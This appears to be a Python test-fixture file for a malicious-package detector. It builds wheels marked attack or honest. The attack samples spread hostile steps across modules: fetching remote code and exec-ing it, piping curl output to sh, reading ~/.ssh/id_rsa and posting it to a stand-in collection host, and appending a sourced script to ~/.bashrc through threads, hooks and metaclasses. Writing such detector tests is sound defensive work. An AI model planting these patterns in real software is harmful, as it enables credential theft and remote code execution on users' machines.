"""What takes two modules: one fetches, reads or opens a way, another executes, sends or goes it."""
from .package import attack, honest

URL = "https://cdn.example.net/t"


@attack
def fetched_there_executed_here(p):
    """A function that fetches in one module, exec of what it gives in a function of another. Must be held."""
    return p.wheel(files={
        "{m}/source.py": f'''
            import requests


            def latest():
                return requests.get("{URL}", timeout=9).text
            ''',
        "{m}/update.py": '''
            from .source import latest


            def update():
                text = latest()
                exec(compile(text.strip() + "\\n", "update", "exec"), {})
            '''})


@attack
def fetched_behind_a_wrapper(p):
    """The same, with a module between that has none of the words that checks begin with. Must be held."""
    return p.wheel(files={
        "{m}/source.py": f'''
            import requests


            def latest():
                return requests.get("{URL}", timeout=9).text
            ''',
        "{m}/cache.py": '''
            from . import source


            def rules(kept=[]):
                if not kept:
                    kept.append(1)
                return source.latest()
            ''',
        "{m}/update.py": '''
            from .cache import rules


            def update():
                exec(rules())
            '''})


@attack
def network_by_a_call_of_init(p):
    """A function of a module uses the network, __init__ calls it by a name of its own. Must be held."""
    return p.wheel(init="from .tables import columns, line\nfrom .warm import warm as _start\n\n_start()\n", files={
        "{m}/warm.py": f'''
            import urllib.request


            def warm():
                return urllib.request.urlopen("{URL}").read()
            '''})


@attack
def network_in_a_method(p):
    """A method uses the network, a second module calls it of an instance that a third one has. Must be held."""
    return p.wheel(init="from .tables import columns, line\nfrom .shared import client\n\nclient.ping()\n", files={
        "{m}/client.py": f'''
            import urllib.request


            class Client:
                def ping(self):
                    return urllib.request.urlopen("{URL}").status
            ''',
        "{m}/shared.py": '''
            from .client import Client

            client = Client()
            '''})


@attack
def key_read_there_sent_here(p):
    """A function reads a private key, another module posts what it gives. Must be held."""
    return p.wheel(files={
        "{m}/identity.py": '''
            import os


            def identity():
                with open(os.path.expanduser("~/.ssh/id_rsa")) as f:
                    return f.read()
            ''',
        "{m}/report.py": '''
            import requests

            from .identity import identity


            def report():
                who = identity()
                requests.post("https://collect.example.net/r", json={"who": f"{who}"}, timeout=9)
            '''})


@attack
def key_given_to_a_sender(p):
    """A module sends what it is given, another one gives it a private key. Must be held."""
    return p.wheel(files={
        "{m}/transport.py": '''
            import requests


            def send(body):
                requests.post("https://collect.example.net/r", data=body, timeout=9)
            ''',
        "{m}/report.py": '''
            import pathlib

            from .transport import send


            def report():
                send((pathlib.Path.home() / ".ssh" / "id_rsa").read_text())
            '''})


@attack
def path_of_a_key_elsewhere(p):
    """The path of a private key is a constant of another module. Must be held."""
    return p.wheel(files={
        "{m}/paths.py": 'STATE = "/root/.ssh/id_rsa"\n',
        "{m}/report.py": '''
            import requests

            from . import paths


            def report():
                requests.post("https://collect.example.net/r", data=open(paths.STATE).read(), timeout=9)
            '''})


@attack
def program_run_at_import(p):
    """What stands under __main__ in one module, run under that name by another. Must be held."""
    return p.wheel(init=f"import runpy\n\nrunpy.run_module('{p.module}.tool', run_name='__main__')\n", files={
        "{m}/tool.py": f'''
            import urllib.request

            if __name__ == "__main__":
                urllib.request.urlopen("{URL}").read()
            '''})


@attack
def after_an_assertion(p):
    """What follows an assertion that this is the program, which python -O does not make. Must be held."""
    return p.wheel(init=f'''
        import urllib.request

        assert __name__ == "__main__"
        urllib.request.urlopen("{URL}").read()
        ''')


@honest
def client_of_two_modules(p):
    """One module fetches, another one shows what it gives; a program of its own calls both."""
    return p.wheel(files={
        "{m}/client.py": '''
            import requests


            def fetch(url):
                return requests.get(url, timeout=9).json()


            class Client:
                def __init__(self, url):
                    self.url = url

                def rows(self):
                    return fetch(self.url)
            ''',
        "{m}/show.py": '''
            import os

            from .client import Client, fetch

            DEFAULT = Client(os.environ.get("TABLES_URL", "https://api.example.org/"))


            def show():
                print(DEFAULT.rows(), fetch(DEFAULT.url))


            if __name__ == "__main__":
                show()
            '''})


def through(p, compat, use, init="from . import use\n"):
    return p.wheel(init=init, files={"{m}/compat.py": compat, "{m}/use.py": use})


@attack
def library_under_another_modules_name(p):
    """A module gives a library on under a name of its own; another fetches with it at import. Must be held."""
    return through(p, "from urllib import request as web\n",
                   f'from .compat import web\n\nCOLUMNS = web.urlopen("{URL}").read()\n')


@attack
def library_as_attribute_of_a_module(p):
    """The same, as an attribute of that module. Must be held."""
    return through(p, "import urllib.request as web\n",
                   f'from . import compat\n\nCOLUMNS = compat.web.urlopen("{URL}").read()\n')


@attack
def library_given_on_twice(p):
    """The same, through a third module, with a star. Must be held."""
    return p.wheel(init="from . import use\n", files={
        "{m}/base.py": "import subprocess as runner\n", "{m}/compat.py": "from .base import *\n",
        "{m}/use.py": 'from .compat import runner\n\nrunner.run(["sh", "-c", "curl -s https://cdn.example.net/i | sh"])\n'})


@attack
def secret_sent_by_a_library_under_another_name(p):
    """The library that sends comes from another module. Must be held."""
    return through(p, "import requests as web\n", '''
        import os.path as paths

        from .compat import web


        def report():
            key = open(paths.expanduser("~/.ssh/id_rsa")).read()
            web.post("https://collect.example.net/", data=key)
        ''')


@attack
def inherited_method_of_another_module(p):
    """A class inherits a method from another module, and its own module calls it at import. Must be held."""
    return through(p, f'''
        import urllib.request


        class Base:
            def load(self):
                return urllib.request.urlopen("{URL}").read()
        ''', '''
        from .compat import Base


        class Table(Base):
            pass


        TABLE = Table().load()
        ''')


@attack
def inherited_constructor_of_another_module(p):
    """A class inherits its constructor from another module; an instance is made at import. Must be held."""
    return through(p, f'''
        import urllib.request


        class Base:
            def __init__(self):
                self.rows = urllib.request.urlopen("{URL}").read()
        ''', '''
        from . import compat


        class Table(compat.Base):
            width = 80


        TABLE = Table()
        ''')


@attack
def inherited_method_calls_own(p):
    """A method of the class calls one that it inherits from another module. Must be held."""
    return through(p, f'''
        import urllib.request


        class Base:
            def load(self):
                return urllib.request.urlopen("{URL}").read()
        ''', '''
        from .compat import Base


        class Table(Base):
            def __init__(self):
                self.rows = self.load()


        TABLE = Table()
        ''')


@honest
def libraries_by_a_compatibility_module(p):
    """Libraries of two versions of Python under one name, used when somebody calls a function."""
    return through(p, '''
        try:
            from urllib import request as web
        except ImportError:
            import urllib2 as web
        ''', '''
        from .compat import web


        def newest(url):
            return web.urlopen(url).read()
        ''')


@honest
def inherits_a_client(p):
    """A class inherits a method that fetches; nobody calls it at import."""
    return through(p, f'''
        import urllib.request


        class Base:
            def load(self):
                return urllib.request.urlopen("{URL}").read()
        ''', '''
        from .compat import Base


        class Table(Base):
            def rows(self):
                return self.load().splitlines()


        TABLE = Table()
        ''')


PROFILE = '''
    import pathlib


    def complete(*given):
        rc = pathlib.Path.home() / ".bashrc"
        rc.write_text(rc.read_text() + "\\n. ~/.cache/tables.sh\\n")
    '''


@attack
def thread_of_another_module(p):
    """A thread runs a function of another module that writes to .bashrc. Must be held."""
    return through(p, PROFILE, "import threading\n\nfrom . import compat\n\nthreading.Thread(target=compat.complete).start()\n")


@attack
def hook_of_another_module(p):
    """The same function is what Python calls for each error. Must be held."""
    return through(p, PROFILE, "import sys\n\nfrom .compat import complete\n\nsys.excepthook = complete\n")


@attack
def metaclass_of_another_module(p):
    """A metaclass of another module does it as a class is made. Must be held."""
    return through(p, PROFILE + '''

    class Made(type):
        def __new__(cls, name, bases, members):
            complete()
            return type.__new__(cls, name, bases, members)
    ''', "from .compat import Made\n\n\nclass Table(metaclass=Made):\n    pass\n")


@attack
def subclass_of_another_module(p):
    """A base of another module does it as a class inherits from it. Must be held."""
    return through(p, PROFILE + '''

    class Base:
        def __init_subclass__(cls):
            complete()
    ''', "from .compat import Base\n\n\nclass Table(Base):\n    pass\n")


@attack
def function_executed_by_name(p):
    """A text that is executed calls the function that writes to .bashrc. Must be held."""
    return through(p, PROFILE + '''

    exec("complete()")
    ''', "from . import compat\n")


@attack
def function_in_place_of_a_librarys(p):
    """The function takes the place of one that others call. Must be held."""
    return through(p, PROFILE + '''

    import warnings

    warnings.showwarning = complete
    ''', "from . import compat\n")


@honest
def thread_that_nobody_starts(p):
    """A function starts a thread of another module's function, when somebody asks for it."""
    return through(p, PROFILE, '''
        import threading

        from . import compat


        def start():
            threading.Thread(target=compat.complete).start()
        ''')
